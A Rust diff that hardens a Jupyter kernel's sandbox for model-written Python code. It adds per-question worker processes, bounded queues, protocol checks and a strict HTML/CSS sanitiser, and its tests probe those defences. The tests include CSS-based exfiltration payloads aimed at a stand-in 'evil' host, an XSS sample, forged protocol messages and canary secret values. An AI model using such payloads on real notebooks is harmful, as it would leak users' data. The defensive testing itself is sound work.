@@ -3,11 +3,20 @@
 //! The worker is this same binary in `worker` mode, in its own process group so a SIGINT sent
 //! by Jupyter to the kernel's group is not delivered twice; the kernel forwards it instead.
 //!
+//! Two roles. The *user* worker holds the `%%python` namespace and the datasets and only ever
+//! runs the user's own code. A *question* worker runs exactly one question's model-written
+//! code and is then killed: model code never shares a process with anything a later cell
+//! uses, so nothing it does in Python (patched modules, audit hooks, threads, forged protocol
+//! lines) can outlive its question. A question worker is distrusted from the start: it may
+//! only send the events of the one request in flight; a reply with another id, a second
+//! `ready`, an oversized line or any event outside a call ends it and the cell says why.
+//!
 //! Containment on this side (the worker contains itself, see worker/sandbox.rs): the worker
 //! starts with a cleared environment plus an allowlist, gets a private scratch directory that is
-//! removed with it, and everything it sends is bounded (line size, output bytes per call, stderr
-//! bytes per worker). Outputs of model code (`run_question`) are filtered: no clear_output, only
-//! text/plain, PNG/JPEG and HTML that passes a strict table-markup check.
+//! removed with it, and everything it sends is bounded (line size, a short event queue that
+//! back-pressures the pipe, output bytes per call, stderr bytes per worker). Outputs of
+//! question workers are filtered: no clear_output, only text/plain, PNG/JPEG and HTML that
+//! passes a strict table-markup check.
 
 use crate::protocol::backend::{ErrorInfo, Output, OutputSink};
 use serde_json::{json, Value};
@@ -24,15 +33,25 @@ use tokio::time::Instant;
 /// How long Python gets to honour an interrupt before the worker is killed.
 pub const INTERRUPT_GRACE: Duration = Duration::from_secs(3);
 /// Longest protocol line accepted from the worker; longer ones are dropped unread.
-pub const MAX_LINE_BYTES: usize = 32 << 20;
+pub const MAX_LINE_BYTES: usize = 16 << 20;
+/// Parsed events waiting for the kernel; when full, the reader stops reading and the
+/// worker blocks on its pipe (memory stays bounded whatever the worker sends).
+const EVENT_QUEUE: usize = 16;
+/// How long a question worker may take to start and load the datasets.
+const QUESTION_WORKER_START: Duration = Duration::from_secs(120);
 /// Output bytes one call may send to the notebook (the worker caps itself first).
 pub const MAX_CALL_OUTPUT_BYTES: usize = 80 << 20;
 /// The same for model code (`run_question`).
 pub const MAX_QUESTION_OUTPUT_BYTES: usize = 12 << 20;
 /// Bytes of worker stderr forwarded to the kernel log per worker process.
 pub const MAX_STDERR_BYTES: usize = 4 << 20;
-/// Ops that run model-written code: their outputs are filtered (see `untrusted_output`).
-const UNTRUSTED_OPS: &[&str] = &["run_question"];
+
+/// Which code a worker process runs (see the module comment).
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Role {
+    User,
+    Question,
+}
 
 #[derive(Debug)]
 enum Event {
@@ -63,6 +82,8 @@ pub enum CallError {
     Interrupted,
     /// The runtime raised: a bug in the worker code, reported with its traceback.
     Failed(String),
+    /// A question worker broke the protocol (forged or stray message) and was killed.
+    Protocol(String),
 }
 
 /// Shared with the interrupt path, which must not wait for the worker lock.
@@ -111,11 +132,25 @@ pub struct Worker {
     /// The worker's private read-write directory; removed when the worker is dropped.
     _scratch: Option<tempfile::TempDir>,
     stdin: ChildStdin,
-    events: mpsc::UnboundedReceiver<Event>,
+    events: mpsc::Receiver<Event>,
     next_id: u64,
     ready: bool,
     configured: bool,
     interrupt: Arc<InterruptHandle>,
+    role: Role,
+    /// Requests sent ahead (a question worker's set-up), whose replies are still due, in order.
+    pending: std::collections::VecDeque<u64>,
+}
+
+/// A message's kind, for the error that ends a question worker.
+fn event_kind(ev: &Event) -> &'static str {
+    match ev {
+        Event::Output(_) => "output",
+        Event::Ready(_) => "ready",
+        Event::Fatal(_) => "fatal",
+        Event::Oversized => "oversized",
+        Event::Reply { .. } => "reply",
+    }
 }
 
 fn parse_event(line: &str) -> Option<Event> {
@@ -184,12 +219,23 @@ impl Worker {
         exe: &PathBuf,
         interrupt: Arc<InterruptHandle>,
         data_dir: &std::path::Path,
+        role: Role,
     ) -> anyhow::Result<Self> {
         let scratch = worker_scratch();
         let mut cmd = Command::new(exe);
-        cmd.arg("worker")
-            .env_clear()
-            .envs(worker_env(scratch.as_ref().map(|d| d.path()), data_dir))
+        let mut env = worker_env(scratch.as_ref().map(|d| d.path()), data_dir);
+        cmd.arg("worker");
+        if role == Role::Question {
+            // Model code needs no file but the datasets' Arrow files: its working directory is
+            // its own scratch, so the notebook folder (and any extra read path) is not granted.
+            cmd.arg("--question");
+            env.retain(|(k, _)| k != crate::worker::sandbox::READ_PATHS_ENV);
+            if let Some(dir) = scratch.as_ref() {
+                cmd.current_dir(dir.path());
+            }
+        }
+        cmd.env_clear()
+            .envs(env)
             .stdin(Stdio::piped())
             .stdout(Stdio::piped())
             .stderr(Stdio::piped())
@@ -209,7 +255,7 @@ impl Worker {
             .pid
             .store(child.id().map(|p| p as i32).unwrap_or(0), Ordering::SeqCst);
         tokio::spawn(forward_stderr(stderr));
-        let (tx, events) = mpsc::unbounded_channel();
+        let (tx, events) = mpsc::channel(EVENT_QUEUE);
         tokio::spawn(async move {
             let mut reader = BufReader::new(stdout);
             let mut line = Vec::new();
@@ -225,7 +271,7 @@ impl Worker {
                     Ok(Some(false)) => Event::Oversized,
                     Ok(None) | Err(_) => return,
                 };
-                if tx.send(ev).is_err() {
+                if tx.send(ev).await.is_err() {
                     return;
                 }
             }
@@ -241,6 +287,8 @@ impl Worker {
             ready: false,
             configured: false,
             interrupt,
+            role,
+            pending: Default::default(),
         })
     }
 
@@ -282,6 +330,38 @@ impl Worker {
         }
     }
 
+    /// Write one request; its reply is collected by `collect`.
+    async fn send(&mut self, op: &str, args: Value) -> Result<u64, CallError> {
+        let id = self.next_id;
+        self.next_id += 1;
+        let line = json!({"id": id, "op": op, "args": args}).to_string() + "\n";
+        if self.stdin.write_all(line.as_bytes()).await.is_err() {
+            return Err(CallError::Died(self.exit_description().await));
+        }
+        let _ = self.stdin.flush().await;
+        Ok(id)
+    }
+
+    /// Send a question worker's set-up requests now, while Python is still importing; their
+    /// replies are checked by `finish_preload` when the worker is taken into use.
+    pub async fn preload(&mut self, requests: Vec<(&str, Value)>) -> Result<(), CallError> {
+        for (op, args) in requests {
+            let id = self.send(op, args).await?;
+            self.pending.push_back(id);
+        }
+        Ok(())
+    }
+
+    /// Wait for the replies to `preload`'s requests; any failure fails the worker.
+    pub async fn finish_preload(&mut self) -> Result<(), CallError> {
+        let deadline = Instant::now() + QUESTION_WORKER_START;
+        while let Some(id) = self.pending.pop_front() {
+            self.collect(id, None, Some(deadline)).await?;
+        }
+        self.configured = true;
+        Ok(())
+    }
+
     /// Call a runtime function. Outputs stream to `sink`; `deadline` bounds the whole call.
     pub async fn call(
         &mut self,
@@ -290,25 +370,26 @@ impl Worker {
         sink: Option<&OutputSink>,
         deadline: Option<Instant>,
     ) -> Result<Value, CallError> {
-        self.wait_ready().await?;
-        let id = self.next_id;
-        self.next_id += 1;
-        let line = json!({"id": id, "op": op, "args": args}).to_string() + "\n";
-        if self.stdin.write_all(line.as_bytes()).await.is_err() {
-            return Err(CallError::Died(self.exit_description().await));
+        if self.role == Role::Question {
+            self.finish_preload().await?;
         }
-        let _ = self.stdin.flush().await;
+        self.wait_ready().await?;
+        self.discard_stale()?;
+        let id = self.send(op, args).await?;
         self.interrupt.busy.store(true, Ordering::SeqCst);
-        let untrusted = UNTRUSTED_OPS.contains(&op);
-        let result = self.collect(id, sink, deadline, untrusted).await;
+        let result = self.collect(id, sink, deadline).await;
         self.interrupt.busy.store(false, Ordering::SeqCst);
+        if let Err(CallError::Protocol(why)) = &result {
+            tracing::error!("question worker ended: {why}");
+            self.kill().await;
+        }
         match result {
             Ok(value) if value.get("worker_restart") == Some(&Value::Bool(true)) => {
-                // The worker could not undo what this question did (a thread that will not
-                // stop) and ends itself after replying: replace it now, so the next cell gets
-                // a clean one with the datasets restored (the engine reconfigures it).
+                // The worker could not undo what this cell did (a thread that will not stop)
+                // and ends itself after replying: replace it now, so the next cell gets a
+                // clean one with the datasets restored (the engine reconfigures it).
                 if let Some(s) = sink {
-                    s.stream("stderr", "\n[The Python worker was restarted: the generated code left a thread running. \
+                    s.stream("stderr", "\n[The Python worker was restarted: the code left a thread running. \
                         Your datasets are restored; variables defined in %%python were lost.]\n");
                 }
                 self.restart().await;
@@ -328,14 +409,34 @@ impl Worker {
         }
     }
 
+    /// Events that arrived while no call was running. The user worker's are output of the
+    /// user's own background threads: dropped (there is no cell to show them in). A question
+    /// worker must never send any: that ends it.
+    fn discard_stale(&mut self) -> Result<(), CallError> {
+        let mut dropped = 0usize;
+        while let Ok(ev) = self.events.try_recv() {
+            if self.role == Role::Question {
+                return Err(CallError::Protocol(format!(
+                    "it sent a message while no request was running ({})",
+                    event_kind(&ev)
+                )));
+            }
+            dropped += 1;
+        }
+        if dropped > 0 {
+            tracing::warn!("dropped {dropped} worker message(s) sent between cells");
+        }
+        Ok(())
+    }
+
     async fn collect(
         &mut self,
         id: u64,
         sink: Option<&OutputSink>,
         deadline: Option<Instant>,
-        untrusted: bool,
     ) -> Result<Value, CallError> {
         let far = Instant::now() + Duration::from_secs(365 * 24 * 3600);
+        let untrusted = self.role == Role::Question;
         let mut sent = 0usize;
         let mut capped = false;
         let mut deadline_at = deadline.unwrap_or(far);
@@ -357,6 +458,9 @@ impl Worker {
                             }
                         }
                     }
+                    Some(Event::Oversized) if untrusted => {
+                        return Err(CallError::Protocol(format!("it sent a message larger than {} MB", MAX_LINE_BYTES >> 20)));
+                    }
                     Some(Event::Oversized) => {
                         tracing::warn!("dropped a worker message larger than {} MB", MAX_LINE_BYTES >> 20);
                         if let Some(s) = sink {
@@ -369,6 +473,17 @@ impl Worker {
                             (false, true) => Err(CallError::Interrupted),
                             (false, false) => Err(CallError::Failed(error)),
                         };
+                    }
+                    Some(Event::Reply { id: rid, .. }) if untrusted => {
+                        return Err(CallError::Protocol(format!("it sent a reply to request {rid} while request {id} was running")));
+                    }
+                    Some(Event::Ready(report)) if !self.ready => {
+                        self.ready = true;
+                        log_sandbox_once(&report);
+                    }
+                    Some(Event::Fatal(msg)) => return Err(CallError::Died(msg)),
+                    Some(other) if untrusted => {
+                        return Err(CallError::Protocol(format!("it sent an unexpected {} message", event_kind(&other))));
                     }
                     Some(_) => {}
                     None => return Err(CallError::Died(self.exit_description().await)),
@@ -391,6 +506,7 @@ impl Worker {
             &self.exe.clone(),
             self.interrupt.clone(),
             &self.data_dir.clone(),
+            self.role,
         ) {
             Ok(fresh) => *self = fresh,
             Err(e) => tracing::error!("could not restart the Python worker: {e}"),
@@ -477,8 +593,17 @@ fn worker_env(
     scratch: Option<&std::path::Path>,
     data_dir: &std::path::Path,
 ) -> Vec<(String, std::ffi::OsString)> {
+    worker_env_from(std::env::vars_os(), scratch, data_dir)
+}
+
+/// `worker_env` from a given environment (tests pass one full of secrets).
+fn worker_env_from(
+    vars: impl Iterator<Item = (std::ffi::OsString, std::ffi::OsString)>,
+    scratch: Option<&std::path::Path>,
+    data_dir: &std::path::Path,
+) -> Vec<(String, std::ffi::OsString)> {
     use crate::worker::sandbox;
-    let mut env: Vec<(String, std::ffi::OsString)> = std::env::vars_os()
+    let mut env: Vec<(String, std::ffi::OsString)> = vars
         .filter_map(|(k, v)| k.into_string().ok().map(|k| (k, v)))
         .filter(|(k, _)| sandbox::passes_through(k))
         .collect();
@@ -694,13 +819,20 @@ fn untrusted_output(out: Output) -> Option<Output> {
                     .bytes()
                     .all(|c| c.is_ascii_alphanumeric() || b"+/=\n\r".contains(&c)),
                 ("text/html", Some(html)) => {
-                    let ok = html_is_safe(html);
+                    let ok = html_is_safe(&strip_style_blocks(html));
                     if !ok {
                         tracing::warn!("dropped unsafe HTML from generated code");
                     }
                     ok
                 }
                 _ => false,
+            })
+            .map(|(mime, v)| match (mime.as_str(), v.as_str()) {
+                ("text/html", Some(html)) => {
+                    let cleaned = strip_style_blocks(html);
+                    (mime, Value::String(cleaned))
+                }
+                _ => (mime, v),
             })
             .collect();
         (!kept.is_empty()).then_some(Value::Object(kept))
@@ -732,32 +864,67 @@ fn untrusted_output(out: Output) -> Option<Output> {
     }
 }
 
+/// pandas' notebook tables open with a fixed `<style scoped>` block. CSS can fetch URLs in
+/// many spellings (`url(`, `image-set("...")`, `@font-face src`...), so no style block from a
+/// worker is shown: they are removed here, and `html_is_safe` refuses any that remain.
+pub fn strip_style_blocks(html: &str) -> String {
+    let mut out = String::with_capacity(html.len());
+    let mut rest = html;
+    loop {
+        let lower = rest.to_ascii_lowercase();
+        let Some(start) = lower.find("<style") else {
+            out.push_str(rest);
+            return out;
+        };
+        let Some(end) = lower[start..].find("</style>") else {
+            out.push_str(rest);
+            return out;
+        };
+        out.push_str(&rest[..start]);
+        rest = &rest[start + end + "</style>".len()..];
+    }
+}
+
 /// Whether `html` is table markup as pandas' `to_html(escape=True)` writes it: a few table
-/// tags, a few attributes, no script, no event handler, no URL, no comment, and CSS without
-/// `url(`, `@import`, `expression` or escapes. Anything else is refused, not repaired.
+/// tags, a few attributes, no script, no event handler, no URL, no comment, no style block,
+/// class names from a short list and inline CSS limited to alignment keywords. Anything else
+/// is refused, not repaired.
 pub fn html_is_safe(html: &str) -> bool {
     const TAGS: &[&str] = &[
-        "table", "thead", "tbody", "tfoot", "tr", "th", "td", "div", "p", "span", "br", "style",
+        "table", "thead", "tbody", "tfoot", "tr", "th", "td", "div", "p", "span", "br",
         "caption", "b", "i", "em", "strong", "small", "code",
     ];
     const ATTRS: &[&str] = &[
-        "border", "class", "style", "rowspan", "colspan", "valign", "halign", "scoped", "id",
+        "border", "class", "style", "rowspan", "colspan", "valign", "halign", "scoped",
     ];
+    /// Class names a table may carry (others could borrow the page's own styling).
+    const CLASSES: &[&str] = &["dataframe", "llm-analytics-profile"];
+    /// Inline CSS: `property: keyword;` pairs for alignment only.
     fn css_ok(css: &str) -> bool {
-        let lower = css.to_ascii_lowercase();
-        ![
-            "url(",
-            "@import",
-            "expression",
-            "javascript",
-            "\\",
-            "<",
-            "&",
-            "behavior",
-            "binding",
-        ]
-        .iter()
-        .any(|bad| lower.contains(bad))
+        css.split(';')
+            .map(str::trim)
+            .filter(|d| !d.is_empty())
+            .all(|decl| {
+                let Some((prop, value)) = decl.split_once(':') else {
+                    return false;
+                };
+                matches!(
+                    prop.trim().to_ascii_lowercase().as_str(),
+                    "text-align" | "vertical-align" | "white-space"
+                ) && {
+                    let v = value.trim();
+                    !v.is_empty() && v.bytes().all(|c| c.is_ascii_lowercase() || c == b'-')
+                }
+            })
+    }
+    fn attr_value_ok(attr: &str, value: &str) -> bool {
+        match attr {
+            "style" => css_ok(value),
+            "class" => value.split_whitespace().all(|c| CLASSES.contains(&c)),
+            _ => value
+                .bytes()
+                .all(|c| c.is_ascii_alphanumeric() || c == b'-' || c == b' '),
+        }
     }
     let b = html.as_bytes();
     let mut i = 0;
@@ -823,20 +990,10 @@ pub fn html_is_safe(html: &str) -> bool {
                     }
                     &html[v0..i]
                 };
-                if value.contains('<') || (attr == "style" && !css_ok(value)) {
+                if !attr_value_ok(&attr, value) {
                     return false;
                 }
             }
-        }
-        if name == "style" && !closing {
-            // Raw text up to </style>: CSS only.
-            let Some(end) = html[i..].to_ascii_lowercase().find("</style") else {
-                return false;
-            };
-            if !css_ok(&html[i..i + end]) {
-                return false;
-            }
-            i += end;
         }
     }
     true
@@ -875,7 +1032,8 @@ mod tests {
         let plain = "<table border=\"1\" class=\"dataframe\">\n  <thead>\n    <tr style=\"text-align: right;\">\n      <th></th>\n      <th>a&lt;b</th>\n    </tr>\n  </thead>\n  <tbody>\n    <tr>\n      <th rowspan=\"2\" valign=\"top\">r1</th>\n      <td>&lt;img src=x onerror=alert(1)&gt;</td>\n    </tr>\n  </tbody>\n</table><p>Showing 10 of 50 rows</p>";
         assert!(html_is_safe(plain));
         let notebook = "<div>\n<style scoped>\n    .dataframe tbody tr th:only-of-type {\n        vertical-align: middle;\n    }\n</style>\n<table border=\"1\" class=\"dataframe\"><tr><th colspan=\"2\" halign=\"left\">x</th></tr></table>\n<p>2 rows × 2 columns</p>\n</div>";
-        assert!(html_is_safe(notebook));
+        assert!(!html_is_safe(notebook), "style blocks are refused");
+        assert!(html_is_safe(&strip_style_blocks(notebook)));
         assert!(html_is_safe("<div class=\"llm-analytics-profile\"><table border=\"0\" class=\"dataframe\"></table></div>"));
     }
 
@@ -897,8 +1055,36 @@ mod tests {
             "<table",
             "<td class=\"a\"x onclick=\"y\">",
             "<style>unterminated",
+            "<style>td { background-image: image-set(\"https://evil/?d=1\" 1x) }</style>",
+            "<style>@font-face { font-family: x; src: local(a), \"https://evil/f\" }</style>",
+            "<td style=\"background-image: image-set('https://evil/?d=1' 1x)\">x</td>",
+            "<td style=\"content: 'x'\">x</td>",
+            "<table id=\"notebook-container\"></table>",
+            "<table class=\"jp-OutputArea\"></table>",
+            "<td valign=\"top&quot;\">x</td>",
         ] {
             assert!(!html_is_safe(bad), "accepted: {bad}");
+        }
+    }
+
+    #[test]
+    fn style_blocks_are_removed_from_worker_html() {
+        let html = "<STYLE scoped>td{background:image-set('https://e/' 1x)}</style><table class=\"dataframe\"><tr style=\"text-align: right;\"><td>1</td></tr></table>";
+        let cleaned = strip_style_blocks(html);
+        assert!(!cleaned.to_ascii_lowercase().contains("style>"));
+        assert!(html_is_safe(&cleaned));
+        // Removing a block can only leave text around it, never join a new tag that passes.
+        assert!(!html_is_safe(&strip_style_blocks("<sty<style></style>le>x</style>")));
+        let out = untrusted_output(Output::DisplayData {
+            data: json!({"text/html": html}),
+            metadata: json!({}),
+            display_id: None,
+        });
+        match out {
+            Some(Output::DisplayData { data, .. }) => {
+                assert!(!data["text/html"].as_str().unwrap().contains("image-set"))
+            }
+            other => panic!("unexpected {other:?}"),
         }
     }
 
@@ -955,9 +1141,114 @@ mod tests {
         );
     }
 
+    /// A stand-in worker: a shell script that plays `script` (a question worker's side of the
+    /// protocol), so the kernel's side can be tested against messages a hostile one would send.
+    fn fake_worker(script: &str) -> (tempfile::TempDir, PathBuf) {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("worker.sh");
+        std::fs::write(&path, format!("#!/bin/sh\n{script}\n")).unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
+        (dir, path)
+    }
+
+    const READY: &str = r#"echo '{"event":"ready","sandbox":null}'"#;
+
+    async fn question_worker(script: &str) -> (tempfile::TempDir, Worker) {
+        let (dir, exe) = fake_worker(script);
+        let mut w = Worker::spawn(
+            &exe,
+            Arc::new(InterruptHandle::default()),
+            dir.path(),
+            Role::Question,
+        )
+        .unwrap();
+        w.preload(vec![("configure", json!({}))]).await.unwrap();
+        (dir, w)
+    }
+
+    #[tokio::test]
+    async fn a_reply_to_another_request_ends_a_question_worker() {
+        let script = format!(
+            "{READY}\nread a\necho '{{\"event\":\"reply\",\"id\":1,\"ok\":true,\"value\":{{}}}}'\n\
+             read b\necho '{{\"event\":\"reply\",\"id\":7,\"ok\":true,\"value\":{{\"status\":\"ok\"}}}}'\nsleep 30"
+        );
+        let (_dir, mut w) = question_worker(&script).await;
+        let got = w.call("run_question", json!({}), None, None).await;
+        assert!(
+            matches!(&got, Err(CallError::Protocol(why)) if why.contains("request 7")),
+            "{got:?}"
+        );
+    }
+
+    #[tokio::test]
+    async fn messages_between_calls_end_a_question_worker() {
+        let script = format!(
+            "{READY}\nread a\necho '{{\"event\":\"reply\",\"id\":1,\"ok\":true,\"value\":{{}}}}'\n\
+             echo '{{\"event\":\"stream\",\"name\":\"stdout\",\"text\":\"<script>late</script>\"}}'\nsleep 30"
+        );
+        let (_dir, mut w) = question_worker(&script).await;
+        w.finish_preload().await.unwrap();
+        tokio::time::sleep(Duration::from_millis(300)).await;
+        let got = w.call("run_question", json!({}), None, None).await;
+        assert!(
+            matches!(&got, Err(CallError::Protocol(why)) if why.contains("no request was running")),
+            "{got:?}"
+        );
+    }
+
+    #[tokio::test]
+    async fn the_deadline_holds_whatever_the_worker_sends() {
+        let script = format!(
+            "{READY}\nread a\necho '{{\"event\":\"reply\",\"id\":1,\"ok\":true,\"value\":{{}}}}'\n\
+             read b\nwhile true; do echo '{{\"event\":\"stream\",\"name\":\"stdout\",\"text\":\"x\"}}'; done"
+        );
+        let (_dir, mut w) = question_worker(&script).await;
+        let started = Instant::now();
+        let deadline = Instant::now() + Duration::from_millis(500);
+        let got = w
+            .call("run_question", json!({}), None, Some(deadline))
+            .await;
+        assert!(matches!(got, Err(CallError::Timeout)), "{got:?}");
+        assert!(started.elapsed() < Duration::from_secs(5));
+    }
+
+    #[tokio::test]
+    async fn a_flood_between_calls_stays_bounded() {
+        // A user worker whose background thread floods: the queue holds EVENT_QUEUE events and
+        // the pipe pushes back, whatever the worker sends.
+        let script = format!(
+            "{READY}\nwhile true; do echo '{{\"event\":\"stream\",\"name\":\"stdout\",\"text\":\"xxxxxxxxxxxxxxxx\"}}'; done"
+        );
+        let (dir, exe) = fake_worker(&script);
+        let mut w = Worker::spawn(
+            &exe,
+            Arc::new(InterruptHandle::default()),
+            dir.path(),
+            Role::User,
+        )
+        .unwrap();
+        w.wait_ready().await.unwrap();
+        tokio::time::sleep(Duration::from_millis(500)).await;
+        assert!(w.events.len() <= EVENT_QUEUE, "{} queued", w.events.len());
+        w.kill().await;
+    }
+
     #[test]
     fn worker_env_has_no_secrets() {
-        let env = worker_env(
+        let secrets = [
+            ("OPENAI_API_KEY", "sk-canary-1"),
+            ("MONGODB_URL", "mongodb://u:canary-2@db/x"),
+            ("JPY_SESSION_NAME", "/home/u/secret-canary-3.ipynb"),
+            ("AWS_SECRET_ACCESS_KEY", "canary-4"),
+            ("GITHUB_TOKEN", "canary-5"),
+        ];
+        let vars = secrets
+            .iter()
+            .map(|(k, v)| ((*k).into(), (*v).into()))
+            .chain([("PATH".into(), "/usr/bin".into()), ("LANG".into(), "C.UTF-8".into())]);
+        let env = worker_env_from(
+            vars,
             Some(std::path::Path::new("/tmp/scratch")),
             std::path::Path::new("/dev/shm/llm-analytics-1-x"),
         );
@@ -968,7 +1259,14 @@ mod tests {
                 "{k} would be stripped by the worker"
             );
         }
-        assert!(!names.contains(&"OPENAI_API_KEY") && !names.contains(&"MONGODB_URL"));
+        for (name, value) in secrets {
+            assert!(!names.contains(&name), "{name} reached the worker");
+            assert!(
+                !env.iter().any(|(_, v)| v.to_string_lossy().contains(value)),
+                "the value of {name} reached the worker"
+            );
+        }
+        assert!(names.contains(&"PATH"), "the allowlist passes PATH: {names:?}");
         assert!(names.contains(&"TMPDIR") && names.contains(&crate::worker::sandbox::SCRATCH_ENV));
     }
 }
